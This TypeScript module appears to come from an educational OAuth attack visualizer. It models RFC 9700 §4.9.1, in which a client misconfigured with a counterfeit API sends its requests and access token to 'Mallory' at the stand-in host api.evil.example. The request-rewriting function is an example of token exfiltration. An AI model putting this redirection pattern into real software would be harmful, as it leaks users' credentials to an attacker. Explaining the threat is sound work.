import type { Flow, Step } from "../../flow/define-flow.ts";
import { EVIL_API } from "../../grants/cast.ts";
import type { NotApplicable } from "../attack.ts";
import { changed, extended, promising } from "../../flow/edit-flow.ts";
import { apiCallOf } from "../parts.ts";
import { overheardAt } from "../steps/api-call.ts";
import { attackChapter, attackerPlace, attackParties, attackValues } from "../steps/cast.ts";
import { USE, callWithToken } from "../steps/use.ts";
import { NO_CALL } from "./taken-later.ts";

/** The walk of a client that was told another address for its API (RFC 9700 §4.9.1). `change` is made to what that client does. */
export function atCounterfeitApi(flow: Flow, change: (flow: Flow) => Flow): Flow | NotApplicable {
  const call = apiCallOf(flow);
  if (call === undefined) return NO_CALL;
  const called = changed(flow, call.id, (step) => promising(toCounterfeit(step), USE));
  return extended(overheardAt(change(called), call.id), {
    parties: { attacker: attackParties.attacker },
    places: [attackerPlace],
    values: attackValues,
    chapters: [attackChapter],
    steps: { [USE]: callWithToken(flow) },
  });
}

function toCounterfeit(step: Step): Step {
  if (step.kind !== "exchange") throw new Error("The API call is an exchange.");
  return {
    ...step,
    to: "attacker",
    title: "The client calls the API it was told of, which is Mallory’s",
    spec: "RFC 9700 §4.9.1",
    why: "The client works with any API of this kind, and whoever set it up typed in api.evil.example. Whatever the client sends there, Mallory reads.",
    button: "call Mallory’s API",
    request: (read) => {
      const asked = step.request(read);
      const { pathname, search } = new URL(asked.url);
      return { ...asked, url: `${EVIL_API}${pathname}${search}` };
    },
  };
}
